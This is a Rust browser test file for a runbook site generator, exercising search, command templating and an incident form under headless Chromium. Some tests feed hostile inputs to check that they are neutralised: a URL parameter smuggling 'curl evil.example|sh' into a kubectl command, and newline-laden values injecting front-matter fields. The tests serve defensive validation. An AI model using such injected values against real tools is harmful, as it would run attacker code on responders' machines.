//! The site in a real browser: headless Chromium opens the built pages from `file://`, under
//! their Content-Security-Policy, and `--dump-dom` shows what the site's script did. Typing and
//! clicking need a WebDriver session: `browser_keys.rs`.
//!
//! Runs only when `OPSBOOK_CHROMIUM` names a Chromium binary (`.ci/run` sets it); otherwise each
//! test prints a note and passes.

use std::path::Path;
use std::process::Command;

mod support;

use support::Project;
use support::chromium::{chromium, dump, file_url};

fn title(dom: &str) -> &str {
    let start = dom.find("<title>").map_or(0, |i| i + "<title>".len());
    let end = dom[start..].find("</title>").map_or(start, |i| start + i);
    &dom[start..end]
}

#[test]
fn search_works_from_file_urls() {
    let Some(chromium) = chromium() else { return };
    let (_tmp, out) = Project::repo().build_book();
    let (dom, problems) = dump(&chromium, &file_url(&out.join("index.html"), "?q=pool"));
    assert!(problems.is_empty(), "{problems:#?}");
    assert!(
        dom.contains(
            "data-href=\"postgres/connection-exhaustion.html\"><span class=\"t\">Connection exhaustion"
        ),
        "no search result in:\n{dom}"
    );
    let ms = dom
        .split("data-ms=\"")
        .nth(1)
        .and_then(|s| s.split('"').next());
    let ms: u64 = ms.and_then(|m| m.parse().ok()).expect("search timing");
    assert!(ms < 50, "search took {ms} ms");
    // From a page two levels down, result links climb back to the root.
    let page = out.join("api/error-spike.html");
    let (dom, problems) = dump(&chromium, &file_url(&page, "?q=roll%20back"));
    assert!(problems.is_empty(), "{problems:#?}");
    assert!(
        dom.contains("data-href=\"../api/increased-latency.html\""),
        "{dom}"
    );
}

#[test]
fn target_selector_and_request_id_fill_the_commands() {
    let Some(chromium) = chromium() else { return };
    let (_tmp, out) = Project::repo().build_book();
    let page = out.join("api/increased-latency.html");
    let (dom, problems) = dump(&chromium, &file_url(&page, "?target=staging"));
    assert!(problems.is_empty(), "{problems:#?}");
    assert!(
        dom.contains("\">curl -i https://api.staging.example.com/healthz</code>"),
        "{dom}"
    );
    assert!(
        dom.contains("\"x-request-id: ob-"),
        "a fresh request id: {dom}"
    );
    assert!(dom.contains("https://prometheus.staging.example.com/api/v1/query"));
    assert!(dom.contains("class=\"copy\""), "copy buttons");
    let (dom, _) = dump(&chromium, &file_url(&out.join("api/error-spike.html"), ""));
    assert!(
        dom.contains("psql \"$DATABASE_URL\""),
        "$VARS stay as written"
    );
    assert!(
        dom.contains("\">curl -i http://127.0.0.1:3000/healthz</code>"),
        "first target by default"
    );
}

#[test]
fn queries_and_manual_commands_follow_the_target_and_the_alert_labels() {
    let Some(chromium) = chromium() else { return };
    let (_tmp, out) = Project::repo().build_book();
    let page = out.join("kubernetes/crash-looping.html");
    let query = "?target=staging&namespace=shop&pod=api-7f9c";
    let (dom, problems) = dump(&chromium, &file_url(&page, query));
    assert!(problems.is_empty(), "{problems:#?}");
    assert!(
        dom.contains(r#">increase(kube_pod_container_status_restarts_total{namespace="shop",pod="api-7f9c"}[15m])</code>"#),
        "the query, readable and filled: {dom}"
    );
    assert!(
        dom.contains(r#">curl -sG 'https://prometheus.staging.example.com/api/v1/query' --data-urlencode 'query=increase(kube_pod_container_status_restarts_total{namespace="shop",pod="api-7f9c"}[15m])'</code>"#),
        "its curl line: {dom}"
    );
    assert!(
        dom.contains(r#"href="https://prometheus.staging.example.com/graph?g0.expr=increase(kube_pod_container_status_restarts_total%7Bnamespace%3D%22shop%22%2Cpod%3D%22api-7f9c%22%7D%5B15m%5D)&amp;g0.tab=0""#),
        "Open in Prometheus, encoded: {dom}"
    );
    assert!(
        dom.contains(">kubectl -n shop logs api-7f9c --previous --tail=50</code>"),
        "the command run by hand, filled: {dom}"
    );
    // A crafted link cannot put a second command into what the responder copies.
    let hostile = "?namespace=shop&pod=api-0%3Bcurl%20evil.example%7Csh";
    let (dom, problems) = dump(&chromium, &file_url(&page, hostile));
    assert!(problems.is_empty(), "{problems:#?}");
    assert!(!dom.contains("evil.example</code>"), "{dom}");
    assert!(
        dom.contains(">kubectl -n shop logs {{ pod }} --previous --tail=50</code>"),
        "the unsafe value is left out, its name visible: {dom}"
    );
    assert_eq!(
        dom.matches(r#"aria-invalid="true""#).count(),
        1,
        "the pod input, and only it, is marked: {dom}"
    );
}

#[test]
fn xss_fixture_runs_nothing() {
    let Some(chromium) = chromium() else { return };
    let (_tmp, out) = Project::at(Project::fixtures().join("xss")).build_book();
    for (page, query) in [
        ("evil/boom.html", ""),
        ("evil/index.html", ""),
        ("index.html", "?q=script"),
        ("index.html", "?q=onerror"),
    ] {
        let (dom, problems) = dump(&chromium, &file_url(&out.join(page), query));
        assert!(problems.is_empty(), "{page}: {problems:#?}");
        // Every payload sets the title to `XSS`; every page's own title holds `{{ 7*7 }}`.
        assert_ne!(title(&dom), "XSS", "{page}: a payload ran");
        assert!(title(&dom).contains("{{ 7*7 }}"), "{page}: {}", title(&dom));
        assert!(dom.contains("site.js"), "{page}");
        if query.is_empty() {
            assert!(dom.contains("ob-"), "{page}: the site's own script ran");
        } else {
            assert!(
                dom.contains("role=\"option\""),
                "{page}: search showed results"
            );
        }
    }
}

#[test]
fn screenshot_of_a_failure_mode_page() {
    let Some(chromium) = chromium() else { return };
    let (_tmp, out) = Project::repo().build_book();
    let shot = std::env::temp_dir().join("opsbook-fm.png");
    let profile = tempfile::tempdir().expect("profile");
    let status = Command::new(&chromium)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
        ])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .arg("--window-size=1280,800")
        .arg(format!("--screenshot={}", shot.display()))
        .arg(file_url(&out.join("api/increased-latency.html"), ""))
        .output()
        .expect("run chromium");
    assert!(status.status.success());
    assert!(std::fs::metadata(&shot).is_ok_and(|m| m.len() > 10_000));
    println!("screenshot: {}", shot.display());
}

#[test]
fn served_pages_work_under_the_csp_and_reload_script() {
    let Some(chromium) = chromium() else { return };
    let project = Project::new().bundled("api.yaml");
    let server = project.serve();
    let base = format!("http://{}", server.addr);
    let (dom, problems) = dump(&chromium, &format!("{base}/index.html?q=latency"));
    assert!(problems.is_empty(), "{problems:#?}");
    assert!(
        dom.contains("<a href=\"api/increased-latency.html\">"),
        "{dom}"
    );
    assert!(dom.contains("/__opsbook/reload.js"));
    let page = format!("{base}/api/increased-latency.html?target=staging");
    let (dom, problems) = dump(&chromium, &page);
    assert!(problems.is_empty(), "{problems:#?}");
    assert!(
        dom.contains("https://api.staging.example.com/healthz"),
        "{dom}"
    );
}

/// The Markdown the incident form shows in its preview (the text "Download .md" saves).
fn incident_preview(dom: &str) -> String {
    let start = dom
        .find("<pre id=\"incident-md\"")
        .expect("preview element");
    let text = &dom[start..];
    let text = &text[text.find('>').map_or(0, |i| i + 1)..];
    let text = &text[..text.find("</pre>").expect("end of preview")];
    text.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&amp;", "&")
}

/// The form's Markdown for `api#increased-latency`, with the title and start time from the
/// page's URL, and the record `incident new` writes in `project` with the same values.
fn form_and_cli(
    chromium: &str,
    project: &Project,
    out: &Path,
    title: &str,
    title_query: &str,
) -> (String, String) {
    let query = format!(
        "?runbook=api&failure_mode=increased-latency&title={title_query}&started_at=2026-11-26T08:00:00Z"
    );
    let (dom, problems) = dump(chromium, &file_url(&out.join("incident.html"), &query));
    assert!(problems.is_empty(), "{problems:#?}");
    let records = tempfile::tempdir().expect("tempdir");
    project.incident_new(records.path(), title, &[]).assert_ok();
    let record = std::fs::read_dir(records.path())
        .expect("records")
        .flatten()
        .next()
        .expect("one record");
    let expected = std::fs::read_to_string(record.path()).expect("record");
    (incident_preview(&dom), expected)
}

/// The page's self-test fills every field through input events, then reloads once; the
/// preview after the reload is built from what autosave stored.
fn selftest_markdown(chromium: &str, out: &Path) -> String {
    let url = file_url(
        &out.join("incident.html"),
        "?runbook=api&failure_mode=error-spike#opsbook-selftest",
    );
    let (dom, problems) = dump(chromium, &url);
    assert!(problems.is_empty(), "{problems:#?}");
    incident_preview(&dom)
}

#[test]
fn incident_form_produces_the_same_markdown_as_the_cli() {
    let Some(chromium) = chromium() else { return };
    let (_tmp, out) = Project::repo().build_book();
    let (form, cli) = form_and_cli(
        &chromium,
        &Project::repo(),
        &out,
        "p95 above SLO",
        "p95%20above%20SLO",
    );
    assert_eq!(form, cli);
}

/// A project's own `templates/incident.md` (another heading order, the title and severity in
/// a sentence, a runbook value in a condition, other filters): the form writes what it renders.
#[test]
fn incident_form_follows_an_overridden_template() {
    let Some(chromium) = chromium() else { return };
    let template = Project::fixtures().read("incident-override/incident.md");
    let project = Project::new()
        .bundled("api.yaml")
        .file("templates/incident.md", template);
    let out = project.beside("book");
    project.build(&out).assert_ok();
    let title = "p95 \"above\" | SLO \\ ünï";
    let query = "p95%20%22above%22%20%7C%20SLO%20%5C%20%C3%BCn%C3%AF";
    let (form, cli) = form_and_cli(&chromium, &project, &out, title, query);
    assert_eq!(form, cli);
    assert!(
        cli.contains("**sev2** on `api` (Increased latency): \"p95 \"above\" | SLO \\ ünï\""),
        "{cli}"
    );
    // Every field the self-test fills in lands where the override puts it.
    let markdown = selftest_markdown(&chromium, &out);
    for filled in [
        "commander: \"dana\"",
        "| when | what |\n|---|---|\n| 2026-11-26T08:00:00Z | Started: p95 above SLO (sev",
        "| 2026-11-26T09:02:00Z | Resolved: p95 back to normal |",
        "## Impact\n\nSlow /hello for 21 minutes.\n\n## Summary\n\nA deploy added a slow query.",
        "1. [x] ",
        "### 1. ",
        "Answer 1.",
        "- [ ] Add the missing index (\"dana\", due 2026-12-01, open)",
    ] {
        assert!(
            markdown.contains(filled),
            "`{filled}` is missing:\n{markdown}"
        );
    }
}

#[test]
fn incident_form_autosaves_survives_a_reload_and_lints_clean() {
    let Some(chromium) = chromium() else { return };
    let (tmp, out) = Project::repo().build_book();
    let markdown = selftest_markdown(&chromium, &out);
    for saved in [
        "status: resolved",
        "commander: \"dana\"",
        "A deploy added a slow query.",
        "| 2026-11-26T09:02:00Z | Resolved: p95 back to normal |",
        "| Add the missing index | dana | 2026-12-01 | open |",
        "- [x] ",
        "Answer 1.",
    ] {
        assert!(
            markdown.contains(saved),
            "`{saved}` did not survive the reload:\n{markdown}"
        );
    }
    let record = tmp.path().join("2026-11-26-from-the-form.md");
    std::fs::write(&record, &markdown).expect("write the download");
    let lint = Project::repo().run(&[
        "incident",
        "lint",
        "--color",
        "never",
        record.to_str().expect("utf-8"),
    ]);
    assert!(lint.success(), "{}", lint.stdout());
    assert!(
        lint.stdout().contains("0 errors, 0 warnings"),
        "{}",
        lint.stdout()
    );
}

/// Values in the form's URL are checked as `incident new` checks its flags: a severity with a
/// newline (which would add `status: resolved` to the front matter), a start time that is not
/// RFC 3339 and a title with line breaks never reach the record as written.
#[test]
fn incident_form_ignores_hostile_url_values() {
    let Some(chromium) = chromium() else { return };
    let (_tmp, out) = Project::repo().build_book();
    let query = "?runbook=api&failure_mode=increased-latency&severity=sev1%0Astatus:%20resolved\
        &started_at=2026-11-26T08:00:00Z%0Aresolved_at:%202026-11-26T09:00:00Z\
        &title=slow%0A%23%23%20Timeline";
    let (dom, problems) = dump(&chromium, &file_url(&out.join("incident.html"), query));
    assert!(problems.is_empty(), "{problems:#?}");
    let md = incident_preview(&dom);
    let front = &md[..md[4..].find("\n---").expect("front matter end") + 4];
    assert!(
        front.contains("severity: sev2"),
        "the failure mode's default:\n{md}"
    );
    assert!(front.contains("status: open"), "{md}");
    assert!(!front.contains("resolved_at: 2026-11-26T09:00:00Z"), "{md}");
    assert!(
        !front.contains("2026-11-26T08:00:00Z"),
        "a bad start time is not taken:\n{md}"
    );
    let headings = md.lines().filter(|l| l.starts_with("## Timeline")).count();
    assert_eq!(headings, 1, "the title stays one line:\n{md}");
}
